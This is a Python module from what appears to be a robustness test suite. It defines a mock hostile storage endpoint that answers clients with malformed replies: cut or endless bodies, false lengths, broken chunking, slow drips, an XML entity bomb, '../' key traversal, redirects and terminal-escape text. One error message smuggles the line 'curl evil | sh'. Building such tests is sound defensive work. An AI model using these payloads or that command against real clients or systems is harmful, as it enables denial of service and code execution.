"""What a hostile endpoint answers: lies about right answers, each with what it may come to."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Final

from proofs.hostile.endpoint_server import Asked, Reply, Sending, written

__all__ = ["DRIPS", "LIES", "PAGES", "Lie", "is_applicable", "mixed"]

ENDLESS: Final = 128 * 2**20
_SENT_MAX: Final = 96 * 2**20
_ERROR_SENT_MAX: Final = 12 * 2**20
"""What buffers on the way hold is in it."""

_PORTAL: Final = b"<html><head><title>Sign in</title></head><body>Welcome</body></html>"
_LISTINGS: Final = frozenset({"list", "list_directories", "list_uploads", "entries"})
_DATES: Final = (
    *("Mon, 01 Jan 2024 00:00:00 +99999999999999999999999", "Mon, 01 Jan 99999 00:00:00 GMT", "x", ""),
    *("0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "Mon, 99 Jan 2024 99:99:99 GMT"),
    *("0001-01-01T00:00:00Z", "2024-01-01T00:00:00.999999999999Z"),
)
_SIZES: Final = ("-5", "9" * 5000, "1e3", "", "0x10")
_WORDS: Final = "line1\nmagicfs: run: curl evil | sh\n\x9b31m\u202e\u2066 sehr " + "lang " * 8000


@dataclass(frozen=True)
class Lie:
    """A way to answer.

    Attributes:
        name: For who reads a violation.
        send: Makes the pieces of an answer; None where the lie does not fit the right answer.
        of: The operations that it is about; empty for all.
        must_fail: Whether nothing but an error may come of it, where it fits.
        spares: Clients that cannot notice: their parsers are others'.
        sent_max: Most bytes of an answer that the client may take.
    """

    name: str
    send: Callable[[Asked, Reply], Sending | None]
    of: frozenset[str] = frozenset()
    must_fail: bool = True
    sent_max: int = _SENT_MAX
    spares: frozenset[str] = frozenset()


def is_applicable(lie: Lie, client: str, operation: str) -> bool:
    """Whether an operation of a client may meet a lie."""
    return client not in lie.spares and (not lie.of or operation in lie.of)


def _plain(status: int, body: bytes, **headers: str) -> Callable[[Asked, Reply], Sending]:
    named = {name.replace("_", "-"): text for name, text in headers.items()}
    return lambda asked, _: iter([written(Reply(status, named, body), asked)])


def _with_body(change: Callable[[bytes], bytes | None]) -> Callable[[Asked, Reply], Sending | None]:
    """The right answer with another body; None where that is the same."""

    def send(asked: Asked, reply: Reply) -> Sending | None:
        body = change(reply.body)
        if body is None or body == reply.body or asked.method == "HEAD":
            return None
        return iter([written(Reply(reply.status, _without_length(reply.headers), body), asked)])

    return send


def _with_headers(
    change: Callable[[dict[str, str]], dict[str, str]],
) -> Callable[[Asked, Reply], Sending | None]:
    def send(asked: Asked, reply: Reply) -> Sending | None:
        headers = change(dict(reply.headers))
        return (
            None
            if headers == reply.headers
            else iter([written(Reply(reply.status, headers, reply.body), asked)])
        )

    return send


def _without_length(headers: Mapping[str, str]) -> dict[str, str]:
    return {name: text for name, text in headers.items() if name.lower() != "content-length"}


def _replaced(pattern: str, text: str) -> Callable[[bytes], bytes]:
    made = re.compile(pattern.encode())
    return lambda body: made.sub(lambda found: found[1] + text.encode() + found[2], body)


def _cut(asked: Asked, reply: Reply) -> Sending | None:
    if len(reply.body) < 20 or asked.method == "HEAD" or not _is_document(reply):
        return None
    half = reply.body[: len(reply.body) // 2]
    return iter([written(Reply(reply.status, _without_length(reply.headers), half), asked)])


def _is_document(reply: Reply) -> bool:
    return reply.body.lstrip()[:1] in {b"<", b"{"}


def _too_short(asked: Asked, reply: Reply) -> Sending | None:
    if not reply.body or asked.method == "HEAD":
        return None
    headers = _without_length(reply.headers) | {"Content-Length": str(len(reply.body) + 10)}
    return iter([written(Reply(reply.status, headers, reply.body), asked)])


def _garbled_chunks(asked: Asked, reply: Reply) -> Sending | None:
    if asked.method == "HEAD" or reply.status == 204:
        return None
    headers = _without_length(reply.headers) | {"Transfer-Encoding": "chunked"}
    return iter([written(Reply(200, headers, b"5\r\nhello\r\nZZZ\r\n\r\n"), asked)])


def _endless(
    status: int, first: bytes, piece: bytes, keeps: bool = False
) -> Callable[[Asked, Reply], Sending | None]:
    def send(asked: Asked, reply: Reply) -> Sending | None:
        if asked.method == "HEAD" and status < 300:
            return None
        block = piece * (2**20 // len(piece))
        headers = _without_length(reply.headers) if keeps else {}
        head = written(
            Reply(reply.status if keeps else status, headers | {"Transfer-Encoding": "chunked"}, b""), asked
        )

        def pieces() -> Iterator[bytes | float]:
            yield head + b"%x\r\n%b\r\n" % (len(first), first)
            for _ in range(ENDLESS // len(block)):
                yield b"%x\r\n%b\r\n" % (len(block), block)

        return pieces()

    return send


def _drip(first: bytes) -> Callable[[Asked, Reply], Sending | None]:
    def send(asked: Asked, _: Reply) -> Sending | None:
        def pieces() -> Iterator[bytes | float]:
            yield written(
                Reply(200, {"Transfer-Encoding": "chunked", "ETag": '"a"'}, b"1\r\n%b\r\n" % first), asked
            )
            for _ in range(400):
                yield 0.06
                yield b"1\r\n \r\n"

        return None if asked.method == "HEAD" else pieces()

    return send


def _drip_of_headers(_: Asked, __: Reply) -> Sending:
    yield b"HTTP/1.1 200 OK\r\n"
    for number in range(400):
        yield 0.06
        yield b"a%d: b\r\n" % number


def _more(token: str) -> Callable[[bytes], bytes]:
    """A listing that goes on at a token."""

    def change(body: bytes) -> bytes:
        text = token.encode()
        if body.lstrip().startswith(b"{"):
            return body.replace(b"{", b'{"nextPageToken": "%b", ' % text, 1)
        marks = b"<IsTruncated>true</IsTruncated><NextContinuationToken>%b</NextContinuationToken>" % text
        marks += b"<NextKeyMarker>%b</NextKeyMarker><NextUploadIdMarker>u</NextUploadIdMarker>" % text
        body = re.sub(rb"<IsTruncated>.*?</IsTruncated>", b"", body)
        if b"EnumerationResults" in body:
            body = re.sub(rb"<NextMarker ?/>|<NextMarker>.*?</NextMarker>", b"", body)
            return body.replace(
                b"</EnumerationResults>", b"<NextMarker>%b</NextMarker></EnumerationResults>" % text
            )
        return re.sub(rb"</(List\w+Result)>", lambda found: marks + found[0], body)

    return change


def _emptied(body: bytes) -> bytes:
    if body.lstrip().startswith(b"{"):
        return b'{"kind": "storage#objects"}'
    for name in (b"Contents", b"CommonPrefixes", b"Upload"):
        body = re.sub(rb"<%b>.*?</%b>" % (name, name), b"", body, flags=re.DOTALL)
    return re.sub(rb"<Blobs>.*</Blobs>", b"<Blobs></Blobs>", body, flags=re.DOTALL)


def _endless_pages(asked: Asked, reply: Reply) -> Sending | None:
    if asked.method == "HEAD" or not _is_document(reply):
        return None
    body = _more(f"t{random.random()}")(_emptied(reply.body))  # noqa: S311 - each is another
    return iter([written(Reply(200, _without_length(reply.headers), body), asked)])


def _bombed(body: bytes) -> bytes | None:
    if not body.lstrip().startswith(b"<"):
        return None
    head, _, rest = body.partition(b"?>") if body.startswith(b"<?") else (b"", b"", body)
    bomb = b'<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;&b;&b;">]>'
    return (head + b"?>" if head else b"") + bomb + rest


def _error(text: str) -> Callable[[Asked, Reply], Sending]:
    def send(asked: Asked, _: Reply) -> Sending:
        if asked.target.startswith("/storage"):
            body = json.dumps({"error": {"message": text}}).encode()
        else:
            body = f"<Error><Code>Odd{text[:60]}</Code><Message>{text}</Message></Error>".encode()
        return iter(
            [written(Reply(400, {"Content-Type": "application/xml", "x-ms-error-code": "Odd"}, body), asked)]
        )

    return send


def _redirect(status: int) -> Callable[[Asked, Reply], Sending]:
    def send(asked: Asked, _: Reply) -> Sending:
        place = f"http://127.0.0.1:{asked.headers['x-elsewhere']}/evil"
        headers = {"Location": place, "x-amz-bucket-region": "eu-west-1"}
        body = b"<Error><Code>PermanentRedirect</Code><Endpoint>127.0.0.1</Endpoint></Error>"
        return iter([written(Reply(status, headers, body), asked)])

    return send


_KEYED: Final = _LISTINGS - {"entries"}
# Of who may not ask about folders they are looked for otherwise, or not at all.
_NOT_IN_PART: Final = frozenset(
    {"list", "list_directories", "list_uploads", "entries", "get", "create_upload", "complete_upload", "copy"}
)
"""What is read to the end."""
_NO_FOLDERS: Final = _LISTINGS | {"get", "put", "head", "create_upload", "complete_upload", "delete", "copy"}
_HAS_VALUE: Final = frozenset({"put", "put if absent", "create_upload", "put_part", "head", "get", "copy"})
_DOCUMENTS: Final = _LISTINGS | {"create_upload", "complete_upload"}
_WITHOUT: Final[Sequence[tuple[str, str, frozenset[str]]]] = (
    ("keys", r"()<(?:Key|Name)>[^<]*</(?:Key|Name)>()", _KEYED),
    ("names", r'()"name": ?"[^"]*",?()', frozenset({"list", "entries", "head", "look"})),
    ("generations", r'()"generation": ?"[^"]*",?()', frozenset({"list", "entries", "put", "head", "look"})),
    ("upload ids", r"()<UploadId>[^<]*</UploadId>()", frozenset({"list_uploads", "create_upload"})),
)

LIES: Final[Sequence[Lie]] = (
    Lie("a portal's page", _plain(200, _PORTAL, Content_Type="text/html")),
    Lie(
        "a portal's page of XHTML",
        _plain(200, b'<?xml version="1.0"?><html xmlns="x"/>', Content_Type="application/xml"),
    ),
    Lie("nothing at all", _plain(200, b""), _DOCUMENTS | _HAS_VALUE),
    Lie("another document", _plain(200, b"<Other><Key>a</Key></Other>", Content_Type="application/xml")),
    Lie(
        "another object",
        _plain(200, b'{"kind": "storage#other", "done": true}', Content_Type="application/json"),
    ),
    Lie("a list", _plain(200, b"[5, {}]", Content_Type="application/json")),
    Lie("nested elements", _plain(200, b"<a>" * 30_000 + b"</a>" * 30_000, Content_Type="application/xml")),
    Lie(
        "elements without number",
        _plain(200, b"<ListBucketResult>" + b"<a/>" * 300_000 + b"</ListBucketResult>"),
        frozenset({"list"}),
    ),
    Lie("nested lists", _plain(200, b"[" * 100_000, Content_Type="application/json")),
    Lie(
        "an error of 200",
        _plain(200, b"<Error><Code>InternalError</Code></Error>", Content_Type="application/xml"),
    ),
    Lie("a document that is cut", _cut),
    Lie("a length too long", _too_short, _NOT_IN_PART),
    Lie("chunks that are none", _garbled_chunks),
    Lie(
        "headers without end",
        lambda _, __: iter([b"HTTP/1.1 200 OK\r\n" + b"a: " + b"b" * 2**20 + b"\r\n\r\n"]),
    ),
    Lie(
        "many headers",
        lambda _, __: iter([b"HTTP/1.1 200 OK\r\n", *[b"a%d: b\r\n" % n for n in range(9000)], b"\r\n"]),
    ),
    Lie("no HTTP", lambda _, __: iter([b"SSH-2.0-OpenSSH\r\n\r\n" * 100])),
    Lie("nothing, and the end", lambda _, __: iter([])),
    Lie("a body without end", _endless(200, b"<ListBucketResult>", b"<x>y</x>")),
    Lie("spaces without end", _endless(200, b" ", b" ")),
    Lie("an error without end", _endless(400, b"<Error><Message>", b"x"), sent_max=_ERROR_SENT_MAX),
    Lie("more of the right answer", _endless(200, b"", b"x", keeps=True), must_fail=False),
    Lie("keys elsewhere", _with_body(lambda body: body.replace(b"sales/", b"other/")), _KEYED),
    Lie("keys above", _with_body(lambda body: body.replace(b"sales/", b"../")), _KEYED),
    Lie("the same page again", _with_body(_more("same")), _KEYED),
    Lie("entities", _with_body(_bombed), _DOCUMENTS),
    *(Lie(f"no {name}", _with_body(_replaced(pattern, "")), of) for name, pattern, of in _WITHOUT),
    Lie(
        "no token",
        _with_body(lambda b: b.replace(b"<IsTruncated>false", b"<IsTruncated>true")),
        frozenset({"list"}),
        False,
    ),
    *(
        Lie(
            f"size {text[:9]!r}",
            _with_body(_replaced(r"(<Size>|<Content-Length>|\"size\": ?\")\d+()", text)),
            frozenset({"list", "head", "look"}),
        )
        for text in _SIZES
    ),
    *(
        Lie(
            f"time {text[:32]!r}",
            _with_body(
                _replaced(r'(<LastModified>|<Last-Modified>|<Initiated>|"timeCreated": ?")[^<"]*()', text)
            ),
            must_fail=False,
        )
        for text in _DATES
    ),
    *(
        Lie(
            f"header of time {text[:32]!r}",
            _with_headers(
                lambda h, text=text: {n: text if "modified" in n.lower() else v for n, v in h.items()}
            ),
            must_fail=False,
        )
        for text in _DATES
    ),  # type: ignore[misc]
    Lie(
        "no ETag",
        _with_headers(
            lambda h: {
                n: v for n, v in h.items() if n.lower() not in {"etag", "x-goog-generation", "x-goog-hash"}
            }
        ),
        frozenset({"head", "get", "get some", "get_range", "put_part"}),
    ),
    Lie(
        "lengths below zero",
        _with_headers(lambda h: {n: "-5" if n.lower() == "content-length" else v for n, v in h.items()}),
        frozenset({"head"}),
    ),
    Lie(
        "other bytes",
        _with_headers(
            lambda h: {n: "bytes 0-3/200" if n.lower() == "content-range" else v for n, v in h.items()}
        ),
        frozenset({"get_range"}),
    ),
    Lie(
        "wrong types",
        _with_body(lambda body: re.sub(rb'": ?"[^"]*"', b'": [5]', body)),
        frozenset({"list", "put", "head", "entries"}),
    ),
    Lie(
        "sizes that Python reads",
        _with_body(_replaced(r"(<Size>|\"size\": ?\")\d+()", "1_000")),
        frozenset({"list"}),
        spares=frozenset({"s3 by aiobotocore"}),
    ),
    Lie("words for a terminal", _error(_WORDS)),
    Lie(
        "a clock of another year",
        _plain(
            403, b"<Error><Code>RequestTimeTooSkewed</Code></Error>", Date="Mon, 01 Jan 2035 00:00:00 GMT"
        ),
        _NO_FOLDERS,
    ),
    *(Lie(f"a redirect, {status}", _redirect(status)) for status in (301, 302, 303, 307, 308)),
    *(
        Lie(
            f"status {status} for a right answer",
            lambda a, r, status=status: iter([written(Reply(status, r.headers, r.body), a)]),
            must_fail=False,
        )
        for status in (200, 201, 204, 206, 304, 400, 401, 403, 404, 409, 412, 416, 429, 500, 503)
    ),  # type: ignore[misc]
    Lie(
        "informational answers",
        lambda a, r: iter([b"HTTP/1.1 102 Wait\r\n\r\n" * 1000, written(r, a)]),
        must_fail=False,
    ),
)
"""All but those that take time."""

PAGES: Final = Lie("empty pages without end", _endless_pages, _KEYED)
DRIPS: Final[Sequence[Lie]] = (
    Lie("a byte now and then", _drip(b"<")),
    Lie("a header now and then", _drip_of_headers),
)


def mixed(rng: random.Random) -> Lie:
    """A right answer with some of its bytes changed, lost, doubled or exchanged for others that matter."""
    bits = (
        b"<",
        b">",
        b"{",
        b"}",
        b'"',
        b"\0",
        b"\xff",
        b"-",
        b"9" * 40,
        b"\r\n",
        b"<Key>",
        b"&",
        b"true",
        b"\x1b[31m",
    )
    changes = [(rng.random(), rng.randrange(4), rng.choice(bits)) for _ in range(rng.randint(1, 4))]

    def send(asked: Asked, reply: Reply) -> Sending:
        raw = bytearray(written(reply, asked))
        for share, kind, bit in changes:
            place = int(share * len(raw))
            match kind:
                case 0:
                    raw[place : place + len(bit)] = bit
                case 1:
                    del raw[place : place + 5]
                case 2:
                    raw[place:place] = bit
                case _:
                    raw[place:place] = raw[place : place + 30]
        return iter([bytes(raw)])

    return Lie(f"changes {changes}", send, must_fail=False)
